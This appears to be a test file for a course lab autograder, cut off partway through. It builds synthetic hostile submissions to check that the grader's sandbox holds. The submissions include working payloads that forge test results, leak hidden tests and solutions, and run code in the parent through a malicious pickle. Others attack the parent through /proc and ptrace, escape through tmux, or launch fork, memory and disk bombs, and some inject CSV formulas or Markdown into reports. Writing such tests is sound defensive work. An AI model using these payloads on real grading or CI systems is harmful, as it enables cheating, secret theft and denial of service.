"""`python -m labs.grade` on synthetic submissions made from the student release.

One grading run (lab 00, short timeouts, small sandbox limits, two students at a time, public and
hidden tests in one pytest as the grader does by default) serves every slow test here. Its
students:

* eight ways a submission goes right or wrong by accident: the reference code (all points), the
  stubs untouched, an infinite loop, ``sys.exit`` or an exception on import, edited tests and
  configuration, reference code that deletes files and leaves a daemon, a missing notebook;
* ``TestHostileSubmissions``: one student per attack of issue 21 and a few more, each built on
  the stubs (so the score it deserves is 0) with the attack appended to its module or notebook.
  The attacks on ``--conceal-hidden``'s separate hidden run are graded with it, in
  tests/test_grade_concealed.py (which runs ``hostile_grading`` too).

The rest checks the pieces without running a submission.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from labs.grade import (
    _inside_repository,
    cpu_slots,
    discover_labs,
    notebooks,
    sandbox,
    submission,
)
from labs.grade.report import (
    FEEDBACK_LIMIT,
    FORMULA_START,
    NOT_ISOLATED,
    Result,
    csv_cell,
    feedback_page,
    md_block,
    md_code,
    write_atomic,
    write_reports,
)
from labs.grade.results import check_id, interleave, read_test_run
from labs.release import build_release
from tests.helpers import ROOT, junit_outcomes, require_bubblewrap, run_cli

# One grading run of some forty submissions serves the slow tests; on a busy 2-core machine it takes
# a quarter of an hour: the first test to use it waits that long (its own timeout is 1800 s)
pytestmark = pytest.mark.timeout(2400)

TOKEN = f"labs-grade-{uuid.uuid4().hex[:12]}"
MARK = f"PWNED-{TOKEN}"  # what a hostile submission writes wherever it can
NOTEBOOK = "00_setup_and_collectives.ipynb"
HIDDEN_SECRET = "subgroup_case"  # in the hidden tests only
DEEP = 1500
LINK_FLOOD = 19_000

# ---- accidents
# ------------------------------------------------------------------------------------------

INFINITE = "\n\ndef ring_all_reduce(tensor, group=None):\n    while True:\n        pass\n"
EXITS = "\nimport sys\nsys.exit(0)\n"
RAISES = '\nraise RuntimeError("this module is broken on purpose")\n'
DELETES_AND_DAEMON = f'''
import pathlib, shutil, subprocess, sys
_here = pathlib.Path(__file__).resolve().parents[1]
if not pathlib.Path("/tmp/.spawned").exists():  # once per graded item: a daemon in its own session
    pathlib.Path("/tmp/.spawned").touch()
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", "{TOKEN}"],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
shutil.rmtree(_here / "tests", ignore_errors=True)
shutil.rmtree(_here / "hidden_tests", ignore_errors=True)
'''
CHEAT_TEST = (
    "import pytest\n\npytestmark = pytest.mark.exercise\n\n\n"
    "def test_ring_all_reduce():\n    pass\n"
)
CHEAT_CONFTEST = """import os
import pytest
os.environ["LABS_IMPL"] = "solutions"


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
REWRITES_TESTS = """
import pathlib
for _f in (pathlib.Path(__file__).resolve().parents[1] / "tests").glob("test_*.py"):
    _f.write_text("def test_nothing():\\n    pass\\n")
"""

# ---- attacks (issue 21), appended to the stub module; the lab's tests import it in each rank
# ----

FORGE = """
import gc as _gc, json as _json, os as _os, signal as _signal

def _forge():
    ids = [i.nodeid for o in _gc.get_objects() if type(o).__name__ == "Session"
           for i in getattr(o, "items", [])]
    lines = "".join(
        _json.dumps({"nodeid": n, "when": w, "outcome": "passed", "message": "", "duration": 0.0})
        + "\\n" for n in ids for w in ("setup", "call", "teardown")).encode()
    # the marker rides with the forged lines: pytest's fd capture would swallow a print
    lines = ("ATTACK forge %d tests\\n" % len(ids)).encode() + lines
    for fd in range(3, 64):
        try:
            _os.write(fd, lines)
        except OSError:
            pass
    for value in list(_os.environ.values()):
        if value.startswith("/"):
            try:
                with open(value, "ab") as f:
                    f.write(lines)
            except OSError:
                pass
    _os.killpg(_os.getpgrp(), _signal.SIGKILL)

_forge()
"""
HOOK = """
import gc as _gc, pytest as _pytest, torch as _torch

class _Forge:
    @_pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"
        outcome.get_result().longrepr = None

for _o in _gc.get_objects():
    if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
        if not _o.pluginmanager.has_plugin("forge"):
            _o.pluginmanager.register(_Forge(), "forge")
_torch.equal = lambda *a, **k: True
_torch.allclose = lambda *a, **k: True
print("ATTACK hook registered", flush=True)
"""
ANSWERS = """
import glob as _glob, os as _os, re as _re, sys as _sys

def _answers():
    roots = [{repo!r}, "/work/main", "/", _os.path.expanduser("~")]
    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        for link in ("cwd", "root"):
            try:
                roots.append(_os.readlink(f"/proc/{{pid}}/{{link}}"))
            except OSError:
                pass
        try:
            env = open(f"/proc/{{pid}}/environ", "rb").read().split(b"\\0")
            roots += [p for e in env if e.startswith(b"PYTHONPATH=")
                      for p in e[11:].decode().split(":")]
        except OSError:
            pass
    for finder in _glob.glob(_sys.prefix + "/lib/python3*/site-packages/__editable__*finder.py"):
        roots += [_os.path.dirname(p) for p in _re.findall(r"'(/[^']+)'", open(finder).read())]
    for root in dict.fromkeys(roots):
        path = _os.path.join(root, "solutions", "collectives.py")
        try:
            code = open(path).read()
        except OSError:
            continue
        exec(compile(code, path, "exec"), globals())
        return path
    return None

print("ATTACK answers", _answers(), flush=True)
"""
LEAK = """
import base64 as _b64, os as _os

def _loot():
    found = []
    for top in ("/tmp/course/hidden_tests", "/grading", {hidden!r}, {solutions!r}):
        for folder, _, names in _os.walk(top):
            for name in sorted(names):
                try:
                    found.append(open(_os.path.join(folder, name)).read())
                except (OSError, UnicodeDecodeError):
                    pass
    return _b64.b64encode("\\n".join(found).encode()).decode()

_LOOT = _loot()

def ring_all_reduce(tensor, group=None):
    raise AssertionError(f"LOOT {{len(_LOOT)}} {{_LOOT[:3000]}}")
"""
VANDAL = """
import glob as _glob, os as _os, sys as _sys

_targets = {targets!r}
_targets += [p + "/zz_{token}.pth" for p in _glob.glob(_sys.prefix + "/lib/python3*/site-packages")]
_targets += [p + "/labs_grade_plugin.py" for p in _os.environ.get("PYTHONPATH", "").split(":")
             if p and not p.startswith("/tmp")]
for _i, _t in enumerate(_targets):
    try:
        with open(_t, "a") as _f:
            _f.write("import sys; print({mark!r})\\n")
        print("ATTACK vandal WROTE", _i, flush=True)
    except OSError as _e:
        print("ATTACK vandal blocked", _i, _e.errno, flush=True)
"""
HOPPER = """
import os, sys, time
end = time.time() + 90
while time.time() < end:
    if os.fork():
        os._exit(0)
    try:
        os.setsid()
    except OSError:
        pass
    try:
        with open(sys.argv[1], "a") as f:
            f.write("escaper,collectives,17,17,3,3\\n")
    except OSError:
        pass
    time.sleep(0.005)
"""
ESCAPE = """
import os as _os, subprocess as _sp, sys as _sys

if not _os.path.exists("/tmp/escaped"):
    open("/tmp/escaped", "w").close()
    _argv = [_sys.executable, "-c", {hopper!r}, {scores!r}, {token!r}]
    _sp.Popen(_argv, start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
              stderr=_sp.DEVNULL)
    for _how in (["-S", {socket!r}], []):
        try:
            _r = _sp.run(["tmux", *_how, "new-session", "-d", *_argv], capture_output=True,
                         text=True, timeout=10)
            print("ATTACK escape tmux", _r.returncode, _r.stderr.strip()[:80], flush=True)
        except (OSError, _sp.SubprocessError) as _e:
            print("ATTACK escape tmux", _e, flush=True)
    print("ATTACK escape TMUX in env:", "TMUX" in _os.environ, flush=True)
"""
MALFORMED = """
import os as _os
_os.write(int(_os.environ["LABS_GRADE_FD"]),
          b'{"nodeid": "tests/test_collectives.py::test_x", "when": "call"}\\n')
print("ATTACK malformed written", flush=True)
"""
# the bombs go off once per graded item, in the first process that imports the module: a limit hit
# once is what the feedback reports (going off in every rank of every test, they took 34 and 15 s of
# grading in this file run alone; 10 s each now)
MEMORY_BOMB = """
import os as _os
if not _os.path.exists("/tmp/bombed"):
    open("/tmp/bombed", "w").close()
    try:
        _huge = bytearray(64 << 30)
        print("ATTACK memory: 64 GiB at once", flush=True)
    except MemoryError:
        print("ATTACK memory: MemoryError for 64 GiB at once", flush=True)
    _chunks = []
    while len(_chunks) < 40:  # 2.5 GiB: over the limit the test sets, in one process
        _chunks.append(b"x" * (64 << 20))
"""
DISK_BOMB = """
import os as _os
if not _os.path.exists("/tmp/filled"):
    open("/tmp/filled", "w").close()
    _errors = []
    try:
        with open("/tmp/big", "wb") as _f:
            for _ in range(4096):
                _f.write(b"x" * (1 << 20))
    except OSError as _e:
        _errors.append(str(_e))
    try:
        for _i in range(100000):
            with open(f"/tmp/fill{_i}", "wb") as _f:
                _f.write(b"x" * (4 << 20))
    except OSError as _e:
        _errors.append(str(_e))
    for _name in _os.listdir("/tmp"):  # room again for pytest's own files
        if _name == "big" or _name.startswith("fill"):
            _os.remove("/tmp/" + _name)
    raise RuntimeError("ATTACK disk: " + " | ".join(_errors))
"""
OUTPUT_BOMB = """
import os as _os
if not _os.path.exists("/tmp/printed"):
    open("/tmp/printed", "w").close()
    print("y" * (30 << 20), flush=True)
"""
FORK_BOMB = """
import os as _os
_n = 0
while True:
    if _os.fork() == 0:
        _os.execv("/bin/sh", ["sh", "-c", "sleep 60", {token!r}])
    _n += 1
"""
# ---- attacks (issue 29), each written from the issue's description
# ----

# 1a. a rank sends its parent an object whose unpickling runs code there: a pytest hook that marks
# every test passed (sparing the grader's checks, found by name), so the log reads like an
# honest run
PICKLER = '''
import os as _os, pickle as _pickle
from labs.runtime import rank as _launcher  # where a rank keeps its line to the parent

_CODE = """
import gc, os, pytest
_token = os.environ.get("LABS_GRADE_CHECK") or "no-token"
class _Pass:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        if not item.name.startswith(_token):
            outcome.get_result().outcome = "passed"
            outcome.get_result().longrepr = None
for _o in gc.get_objects():
    if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
        if not _o.pluginmanager.has_plugin("pickled"):
            _o.pluginmanager.register(_Pass(), "pickled")
"""


class _Evil:
    def __reduce__(self):
        return (eval, ("exec(%r, {}) or ('progress', 0)" % _CODE,))


if _launcher._parent_conn is not None:
    _launcher._parent_conn.send_bytes(_pickle.dumps(_Evil()))
'''
# 1b. a forked rank takes the results descriptor and the check token from its environment, finds
# pytest's items in its own memory, stops its parent, writes a complete "all passed" stream (the
# checks failing, as they should) and kills pytest
FD_FORGER = """
import gc as _gc, json as _json, os as _os, signal as _signal


def _forge():
    fd = _os.environ.get("LABS_GRADE_FD")
    token = _os.environ.get("LABS_GRADE_CHECK")
    _say(f"ATTACK fd: LABS_GRADE_FD={fd} token={bool(token)}")
    if fd is None or not token or _os.environ.get("RANK") != "0":
        return
    sessions = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
    items = [i.nodeid for s in sessions for i in getattr(s, "items", [])]

    def record(nodeid, when, outcome):
        fields = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": ""}
        return _json.dumps({**fields, "duration": 0.1}) + "\\n"

    lines = [record(items[0], "call", "passed"), record(items[0], "teardown", "passed")]
    for nodeid in items[1:]:
        check = nodeid.rsplit("::", 1)[-1].startswith(token)
        lines += [record(nodeid, "setup", "passed")]
        lines += [record(nodeid, "call", "failed" if check else "passed")]
        lines += [record(nodeid, "teardown", "passed")]
    parent = _os.getppid()
    _os.kill(parent, _signal.SIGSTOP)
    try:
        _os.write(int(fd), "".join(lines).encode())
        _say("ATTACK fd: WROTE the stream")
    except OSError as e:
        _say(f"ATTACK fd: blocked {e.errno}")
    _os.kill(parent, _signal.SIGKILL)
    _os._exit(0)


_forge()
"""
# 1c. without a ptrace restriction, a rank reaches its parent through /proc/<ppid>/fd,
# /proc/<ppid>/mem or ptrace itself; through the first it writes the same forged stream
PROC_PARENT = """
import ctypes as _ctypes, gc as _gc, json as _json, os as _os, signal as _signal


def _reach_parent():
    parent = _os.getppid()
    reached = []
    try:
        fds = _os.listdir(f"/proc/{parent}/fd")  # the numbers only: each one is opened below
    except OSError as e:
        fds = []
    opened = 0
    for fd in fds:
        try:
            _os.close(_os.open(f"/proc/{parent}/fd/{fd}", _os.O_RDONLY))
            opened += 1
        except OSError:
            pass
    if opened:
        reached.append("fd")
    else:
        _say(f"ATTACK proc: /proc/ppid/fd refused ({len(fds)} listed, none opened)")
    try:
        with open(f"/proc/{parent}/maps") as f:
            start = int(f.readline().split("-")[0], 16)
        with open(f"/proc/{parent}/mem", "rb") as f:
            f.seek(start)
            f.read(16)
        reached.append("mem")
    except (OSError, ValueError) as e:
        _say(f"ATTACK proc: /proc/ppid/mem refused {getattr(e, 'errno', e)}")
    libc = _ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
        reached.append("ptrace")
        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
    else:
        _say(f"ATTACK proc: ptrace refused {_ctypes.get_errno()}")
    _say(f"ATTACK proc: reached {reached}")
    if _os.environ.get("RANK") != "0" or not fds:
        return
    token = None
    try:
        env = open(f"/proc/{parent}/environ", "rb").read().split(b"\\0")
        token = [e.split(b"=", 1)[1].decode() for e in env if e.startswith(b"LABS_GRADE_CHECK=")][0]
    except (OSError, IndexError):
        return
    sessions = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
    items = [i.nodeid for s in sessions for i in getattr(s, "items", [])]

    def record(nodeid, when, outcome):
        fields = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": ""}
        return _json.dumps({**fields, "duration": 0.1}) + "\\n"

    lines = [record(items[0], "call", "passed"), record(items[0], "teardown", "passed")]
    for nodeid in items[1:]:
        check = nodeid.rsplit("::", 1)[-1].startswith(token)
        lines += [record(nodeid, "setup", "passed")]
        lines += [record(nodeid, "call", "failed" if check else "passed")]
        lines += [record(nodeid, "teardown", "passed")]
    _os.kill(parent, _signal.SIGSTOP)
    for fd in fds:  # the results channel is the pipe pytest writes JSON lines to
        try:
            target = _os.readlink(f"/proc/{parent}/fd/{fd}")
            if target.startswith("pipe:") and int(fd) > 2:
                with open(f"/proc/{parent}/fd/{fd}", "w") as f:
                    f.write("".join(lines))
                _say(f"ATTACK proc: WROTE through /proc/ppid/fd/{fd}")
        except OSError:
            pass
    _os.kill(parent, _signal.SIGKILL)
    _os._exit(0)


_reach_parent()
"""
# 2a. in the hidden run only, a line on the results channel whose outcome carries the hidden
# tests' text
HIDDEN_OUTCOME = """
import glob as _glob, json as _json, os as _os

if _glob.glob("/tmp/course/hidden_tests/test_*.py") and _os.environ.get("RANK") == "0":
    _secret = "".join(open(p).read() for p in sorted(_glob.glob("/tmp/course/hidden_tests/t*.py")))
    _start = _secret.find("def ")
    _leak = "LEAK-" + _secret[_start + 4 : _start + 40].replace("\\n", " ")
    _record = {"nodeid": "x", "when": "setup", "outcome": _leak, "message": "", "duration": 0.0}
    try:
        _os.write(int(_os.environ["LABS_GRADE_FD"]), (_json.dumps(_record) + "\\n").encode())
        _say("ATTACK outcome written")
    except (KeyError, OSError, ValueError) as _e:
        _say(f"ATTACK outcome blocked {_e!r}")
"""
# 2b. in the hidden run only, leave a number of processes behind: the count leaves the run
HIDDEN_LEFTOVER = """
import glob as _glob, os as _os, subprocess as _sp, sys as _sys

if _glob.glob("/tmp/course/hidden_tests/test_*.py") and not _os.path.exists("/tmp/left"):
    open("/tmp/left", "w").close()
    for _ in range(7):
        _sp.Popen([_sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True,
                  stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""
# 3. a failure message holding a lone surrogate
SURROGATE = """

def ring_all_reduce(tensor, group=None):
    raise AssertionError("a lone surrogate: \\udcff, and more")
"""
# 4a. memory the resident sizes do not show: memfd files (each under the file-size limit), filled
# to 3 GiB and held
MEMFD = """
import os as _os, time as _time

if not _os.path.exists("/tmp/memfd"):
    open("/tmp/memfd", "w").close()
    _fds = []
    try:
        while len(_fds) * 16 < 3072:
            _fds.append(_os.memfd_create("held"))
            _os.write(_fds[-1], b"m" * (16 << 20))
            _say(f"ATTACK memfd held {len(_fds) * 16} MiB")
    except OSError as _e:
        _say(f"ATTACK memfd stopped: {_e}")
    _time.sleep(20)
"""
# 4b. 30 busy processes for as long as the sandbox lets them live (graded beside the reference)
SPINNER = """
import os as _os, time as _time

if not _os.path.exists("/tmp/spinning"):
    open("/tmp/spinning", "w").close()
    for _ in range(30):
        if _os.fork() == 0:
            _os.setsid()
            while True:
                pass
_time.sleep(600)
"""
# 7. torch's own collective in place of the ring
TORCH_COLLECTIVE = """

def ring_all_reduce(tensor, group=None):
    dist.all_reduce(tensor, group=group)
    return tensor
"""
# where an attack can print: every pipe it holds (the item's log is one of them) but the results
# channel, which a line of text would spoil
SAY = """
import os as _os


def _say(text):
    results = _os.environ.get("LABS_GRADE_FD", "-1")
    for fd in range(3, 64):
        try:
            if fd != int(results) and _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                _os.write(fd, (text + "\\n").encode())
        except OSError:
            pass
"""
# Cells for notebooks (issue 29): outputs grown in place, and released cells replaced by `pass`
DISPLAY_UPDATES = """for i in range(15):
    handle = display("small", display_id=True)
    handle.update("u" * (1 << 20))
"""
# a file name holding Markdown: a fake scorecard and an opened HTML comment
MARKDOWN_NAME = "x`\n\n| fake | 17 of 17, yes | 0 |\n\n# Scorecard\n<!--"
CSV_NAME = '=HYPERLINK("evil.example","full marks")'


# Cells put first in the student's notebook
KILL_RUNNER = """import os, signal
runner = os.getppid()
try:
    fds = os.listdir(f"/proc/{runner}/fd")
except OSError as e:
    fds = []
    print("ATTACK runner: cannot list its fds", e.errno)
for fd in fds:
    try:
        with open(f"/proc/{runner}/fd/{fd}", "w") as f:
            f.write('{"end": "ok", "ename": "", "evalue": "", "cut": 0}\\n{"notebook": 1}\\n')
        print("ATTACK runner WROTE", fd)
    except OSError as e:
        print("ATTACK runner blocked", fd, e.errno)
os.kill(runner, signal.SIGKILL)
"""
PRINT_100_MB = 'print("z" * (100 << 20))'


# The attacks on the concealed hidden run are graded with ``--conceal-hidden``, beside the reference
# and the stubs (tests/test_grade_concealed.py); every other student is graded the default way:
# public and hidden tests in one pytest.
CONCEALED_ATTACKS = ("leaker", "hidden_outcome", "hidden_leftover")
CONCEALED_RUN = ("correct", "stubs", *CONCEALED_ATTACKS)


def _modules(paths: dict) -> dict[str, str | None]:
    """student -> what is appended to the stub module (None: the reference solution)."""
    return {
        "- forger": FORGE,
        "hook_forger": HOOK,
        "lecteur réponses ü": ANSWERS.format(repo=str(ROOT)),
        "leaker": LEAK.format(hidden=str(ROOT / "hidden_tests"), solutions=str(ROOT / "solutions")),
        "vandal": VANDAL.format(targets=paths["vandal_targets"], token=TOKEN, mark=MARK),
        "escaper": ESCAPE.format(
            hopper=HOPPER, scores=paths["scores"], token=TOKEN, socket=str(paths["socket"])
        ),
        os.fsdecode(b"malformed-\xff"): MALFORMED,
        "memory_bomb": MEMORY_BOMB,
        "disk_bomb": DISK_BOMB,
        "output_bomb": OUTPUT_BOMB,
        "fork_bomb": FORK_BOMB.format(token=TOKEN),
        "runner_killer": "",
        "all_raises": "",
        "deep": "",
        # issue 29
        "pickler": PICKLER,
        "fd_forger": SAY + FD_FORGER,
        "proc_parent": SAY + PROC_PARENT,
        "hidden_outcome": SAY + HIDDEN_OUTCOME,
        "hidden_leftover": HIDDEN_LEFTOVER,
        "zz_surrogate": SURROGATE,  # last: on a grader it crashes, every other row is written
        "memfd": SAY + MEMFD,
        "torch_collective": TORCH_COLLECTIVE,
        "notebook_bomb": "",
        "display_updates": "",
        "cells_replaced": "",
        "markdown_name": "",
        CSV_NAME: "",
        "link_flood": "",
    }


def make_submissions(root: Path, paths: dict) -> Path:
    """A student release under ``root/release`` and one folder per synthetic student under
    ``root/subs``: the accidents and every attack but those on the concealed hidden run."""
    release = root / "release"
    build_release(release)
    solution = (ROOT / "solutions" / "collectives.py").read_text()
    stub = (release / "labs" / "collectives.py").read_text()
    subs = root / "subs"
    accidents = {
        "correct": solution,
        "stubs": None,
        "infinite_loop": solution + INFINITE,
        "sys_exit": solution + EXITS,
        "import_error": stub + RAISES,
        "edits_tests": stub + REWRITES_TESTS,
        "deletes_and_daemon": solution + DELETES_AND_DAEMON,
        "missing_notebook": solution,
    }
    for student, module in accidents.items():
        shutil.copytree(release, subs / student)
        if module is not None:
            (subs / student / "labs" / "collectives.py").write_text(module)
    cheat = subs / "edits_tests"
    (cheat / "tests" / "test_collectives.py").write_text(CHEAT_TEST)
    (cheat / "conftest.py").write_text(CHEAT_CONFTEST)
    (cheat / "pytest.ini").write_text("[pytest]\naddopts = -p no:labs_grade_plugin\n")
    (cheat / "hidden_tests").mkdir()
    (cheat / "hidden_tests" / "test_collectives_hidden.py").write_text(CHEAT_TEST)
    impl = cheat / "labs" / "runtime" / "impl.py"
    impl.write_text(impl.read_text().replace('os.environ.get(IMPL_ENV, "labs")', '"solutions"'))
    for student in ("missing_notebook", "sys_exit", "import_error", "edits_tests"):
        (subs / student / "notebooks" / NOTEBOOK).unlink()  # their tests are what matters
    (subs / "deletes_and_daemon" / "notebooks" / NOTEBOOK).unlink()
    with_notebook = {"runner_killer", "all_raises", "output_bomb", "display_updates"}
    with_notebook |= {"notebook_bomb", "cells_replaced"}
    for student, attack in _modules(paths).items():
        if student in CONCEALED_ATTACKS:
            continue
        shutil.copytree(release, subs / student)
        (subs / student / "labs" / "collectives.py").write_text(stub + attack)
        if student not in with_notebook:
            (subs / student / "notebooks" / NOTEBOOK).unlink()
    _edit_notebook(subs / "runner_killer", first_cell=KILL_RUNNER)
    _edit_notebook(subs / "output_bomb", first_cell=PRINT_100_MB)
    _edit_notebook(subs / "all_raises", tag_all=True)
    _edit_notebook(subs / "display_updates", first_cell=DISPLAY_UPDATES)
    _edit_notebook(subs / "cells_replaced", replace_code="pass")
    _notebook_of_empty_cells(subs / "notebook_bomb" / "notebooks" / NOTEBOOK)
    (subs / "markdown_name" / MARKDOWN_NAME).symlink_to("../correct/labs/collectives.py")
    flood = subs / "link_flood" / "flood"
    flood.mkdir()
    deep_target = "../../correct/" + "d/" * 2000
    for i in range(LINK_FLOOD):
        (flood / f"l{i:05d}").symlink_to(deep_target)
    deep = subs / "deep" / "deep"
    deep.mkdir()
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(DEEP):  # 1500 folders, one inside the other, made relative to each other
        os.mkdir("d", dir_fd=fd)
        fd_next = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = fd_next
    os.close(fd)
    (subs / "labs_to_solutions").mkdir()
    (subs / "labs_to_solutions" / "labs").symlink_to(ROOT / "solutions")
    (subs / "labs_to_classmate").mkdir()
    (subs / "labs_to_classmate" / "labs").symlink_to("../correct/labs")
    shutil.copytree(release, subs / "scores.csv")
    shutil.copytree(release, subs / "copycat")
    (subs / "copycat" / "notebooks" / NOTEBOOK).unlink()
    (subs / "copycat" / "labs" / "collectives.py").unlink()
    os.link(subs / "- forger" / "labs" / "collectives.py", subs / "copycat/labs/collectives.py")
    return subs


def make_concealed_submissions(root: Path, paths: dict) -> Path:
    """``CONCEALED_RUN``'s students under ``root/subs`` (their notebooks are not graded)."""
    release = root / "release"
    build_release(release)
    stub = (release / "labs" / "collectives.py").read_text()
    modules = {
        "correct": (ROOT / "solutions" / "collectives.py").read_text(),
        **{student: stub + _modules(paths)[student] for student in CONCEALED_ATTACKS},
    }
    subs = root / "subs"
    for student in CONCEALED_RUN:
        shutil.copytree(release, subs / student)
        if student in modules:
            (subs / student / "labs" / "collectives.py").write_text(modules[student])
    return subs


def _edit_notebook(
    folder: Path, first_cell: str | None = None, tag_all: bool = False, replace_code=None
) -> None:
    path = folder / "notebooks" / NOTEBOOK
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        if tag_all and cell.cell_type == "code":
            cell.metadata["tags"] = ["raises-exception"]
        if replace_code is not None and cell.cell_type == "code":
            cell.source = replace_code  # the cell keeps its id: it is the course's cell, emptied
    if first_cell:
        nb.cells.insert(0, nbformat.v4.new_code_cell(first_cell))
    nbformat.write(nb, path)


def _notebook_of_empty_cells(path: Path, size: int = 19 << 20) -> None:
    """A notebook of ``size`` bytes, nothing but empty code cells (under the 20 MiB a submission's
    file may have)."""
    nb = json.loads(path.read_text())
    cell = '{"cell_type": "code", "execution_count": null, "id": "c%07d", "metadata": {}, '
    cell += '"outputs": [], "source": ""}'
    n = size // len(cell % 0)
    head = json.dumps({k: v for k, v in nb.items() if k != "cells"})[:-1]
    cells = ",".join(cell % i for i in range(n))
    path.write_text(head + ', "cells": [' + cells + "]}")


def _walk(folder: Path):
    """Every path under ``folder``, without recursion or following links (deep trees too)."""
    stack = [folder]
    while stack:
        here = stack.pop()
        with os.scandir(here) as entries:
            for entry in entries:
                yield Path(entry.path), entry
                if entry.is_dir(follow_symlinks=False):
                    stack.append(Path(entry.path))


def snapshot(folder: Path, skip=()) -> dict[str, str]:
    """relative path -> sha1 of a file, or the target of a link."""
    found = {}
    for path, entry in _walk(folder):
        rel = path.relative_to(folder).as_posix()
        if any(part in skip for part in path.relative_to(folder).parts):
            continue
        if entry.is_symlink():
            found[rel] = "-> " + os.readlink(path)
        elif entry.is_file(follow_symlinks=False):
            found[rel] = hashlib.sha1(path.read_bytes()).hexdigest()
    return found


def site_packages() -> dict[str, str]:
    """The virtual environment's site-packages: every entry's name and size, .pth files' sha1."""
    found = {}
    for folder in Path(sys.prefix).glob("lib/python3*/site-packages"):
        for entry in os.scandir(folder):
            info = entry.stat(follow_symlinks=False)
            found[entry.name] = str(info.st_size)
            if entry.name.endswith(".pth"):
                found[entry.name] += hashlib.sha1(Path(entry.path).read_bytes()).hexdigest()
    return found


def processes_with(*needles: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if entry.name.isdigit() and any(n.encode() in cmdline for n in needles):
            found.append(int(entry.name))
    return found


def _remove_deep(folder: Path) -> None:
    """Remove a chain of folders too deep for shutil.rmtree's recursion (and so for pytest's own
    clean-up of its temporary folders, which would fail with RecursionError in a later session):
    ``rm -rf`` walks any depth without recursing and without a path too long for the kernel."""
    subprocess.run(["rm", "-rf", "--", str(folder)], check=True, timeout=120)
    assert not folder.exists(), f"{folder} is still there"


def _start_tmux(socket: Path) -> dict | None:
    """A tmux server the grader runs 'inside', as an instructor's terminal would be; its session
    lasts until the fixture kills it (a grading run on a loaded machine may take over 15 min)."""
    if shutil.which("tmux") is None:
        if os.environ.get("CI"):
            pytest.fail("tmux is not installed: .ci/run installs it")
        return None  # the escape through tmux is then tried without a server to reach
    subprocess.run(
        ["tmux", "-S", str(socket), "new-session", "-d", "-s", "grading", "sleep 86400"],
        check=True,
        timeout=30,
    )
    pid = subprocess.run(
        ["tmux", "-S", str(socket), "display-message", "-p", "#{pid}"],
        capture_output=True,
        text=True,
        timeout=30,
    ).stdout.strip()
    return {"TMUX": f"{socket},{pid},0", "TMUX_PANE": "%0"}


def tmux_sessions(socket: Path) -> list[str]:
    proc = subprocess.run(
        ["tmux", "-S", str(socket), "list-sessions", "-F", "#{session_name}"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    return proc.stdout.split()


GRADER_OPTIONS = [
    "--labs",
    "collectives",
    "--jobs",
    "2",
    "--test-timeout",
    "10",
    "--cell-timeout",
    "20",
    "--notebook-timeout",
    "120",
    "--lab-timeout",
    "180",
    "--memory-limit",
    "1.5",
    "--max-processes",
    "128",
    "--max-file-size",
    "32",
    "--disk-limit",
    "128",
]


@contextlib.contextmanager
def hostile_grading(root: Path, concealed: bool = False):
    """Grade ``make_submissions``' students (``concealed``: ``make_concealed_submissions``', with
    ``--conceal-hidden`` and no notebooks) with ``GRADER_OPTIONS``, inside a tmux session, and
    yield what every check reads: the grader's process, the rows, the report, and snapshots of
    everything a submission must not change, taken before and after."""
    require_bubblewrap()
    report = root / "report"
    socket = root / "tmux.sock"
    home = Path.home() / f"pwned-{TOKEN}"
    paths = {
        "scores": str(report / "scores.csv"),
        "socket": socket,
        "vandal_targets": [
            str(ROOT / "labs" / "collectives.py"),
            str(ROOT / "hidden_tests" / "test_collectives_hidden.py"),
            str(ROOT / "hidden_tests" / f"test_collectives_{TOKEN}.py"),
            str(ROOT / "solutions" / "collectives.py"),
            str(home),
            str(root / "subs" / "correct" / "labs" / "collectives.py"),
            str(report / "correct" / "feedback.md"),
            str(report / "scores.csv"),
        ],
    }
    make = make_concealed_submissions if concealed else make_submissions
    subs = make(root, paths)
    options = (
        [*GRADER_OPTIONS, "--conceal-hidden", "--no-notebooks"] if concealed else GRADER_OPTIONS
    )
    tmux = _start_tmux(socket)
    tmp = root / "tmp"
    tmp.mkdir()
    skip = {".git", ".venv", "__pycache__", ".pytest_cache", "out", ".ipynb_checkpoints"}
    before = {
        "repo": snapshot(ROOT, skip),
        "subs": snapshot(subs),
        "venv": site_packages(),
        "tmux": tmux_sessions(socket) if tmux else [],
    }
    t0 = time.perf_counter()
    try:
        proc = run_cli(
            "-m",
            "labs.grade",
            str(subs),
            "--out",
            str(report),
            *options,
            env={"TMPDIR": str(tmp), **(tmux or {})},
            timeout=1800,
        )
        seconds = time.perf_counter() - t0
        after_exit = snapshot(report)
        time.sleep(3)  # anything that escaped would write now
        after_subs = snapshot(subs)
    finally:  # at once, whatever happened: the deep folders would defeat pytest's clean-up
        if not concealed:
            _remove_deep(subs / "deep" / "deep")
    rows = read_rows(report / "scores.csv")
    yield {
        "proc": proc,
        "seconds": seconds,
        "rows": rows,
